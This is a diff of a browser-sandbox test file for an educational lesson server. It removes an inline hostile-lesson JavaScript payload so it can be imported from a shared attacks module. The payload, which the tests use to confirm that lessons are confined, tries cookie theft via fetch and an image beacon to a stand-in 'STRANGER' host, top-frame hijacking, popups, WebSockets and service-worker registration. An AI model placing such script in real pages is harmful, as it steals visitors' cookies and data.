@@ -13,6 +13,7 @@ import pytest
 
 from edubox.pack.manifest import Item
 from tests.box.school import School, page, serving
+from tests.browser.attacks import ATTACK, LIES
 from tests.browser.chromium import Browser
 
 PDF = b"""%PDF-1.4
@@ -25,25 +26,6 @@ endstream endobj
 trailer<</Root 1 0 R>>
 """
 DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 30"><rect width="40" height="30" fill="#2563eb"/></svg>'
-#: What a hostile lesson tries, each with what came of it.
-ATTACK = """<p id=first>Bonjour</p><form id=form method=post action="/x"><input name=a></form><script>
-const tried = {};
-async function attempt(name, act) { try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused: " + error.name; } }
-window.done = (async () => {
-  await attempt("parent", () => parent.document.title);
-  if (top !== window) await attempt("top", () => { top.location = "about:blank#gone"; return top.location.href; });
-  await attempt("cookie", () => document.cookie);
-  await attempt("fetch elsewhere", () => fetch("http://STRANGER/steal"));
-  await attempt("fetch pages", () => fetch(document.referrer || location.origin.replace(/\\d+$/, PORT) + "/fr/"));
-  await attempt("post", () => fetch("/c/", {method: "POST", body: "x"}).then(answer => answer.status));
-  await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error()); i.src = "http://STRANGER/i.png?" + document.cookie; }));
-  await attempt("popup", () => window.open("http://STRANGER/") === null ? Promise.reject(new Error()) : "opened");
-  await attempt("worker", () => navigator.serviceWorker.register("worker.js"));
-  await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("ws://STRANGER/"); s.onopen = yes; s.onerror = () => no(new Error()); }));
-  document.getElementById("form").submit();
-  return tried;
-})();
-</script>"""
 
 
 @pytest.fixture(scope="session")
@@ -134,6 +116,8 @@ def school(tmp_path_factory, stranger):
         hostile = {
             "index.html": page("Hostile", ATTACK.replace("PORT", port).replace("STRANGER", stranger.host)),
             "worker.js": b"self.onfetch = () => {}",
+            "inner/worker.js": b"self.onfetch = () => {}",
         }
         school.add("hostile", hostile, title="Leçon hostile")
+        school.add("menteuse", {"index.html": page("Menteuse", LIES)}, title="Leçon menteuse")
         yield pages, lessons
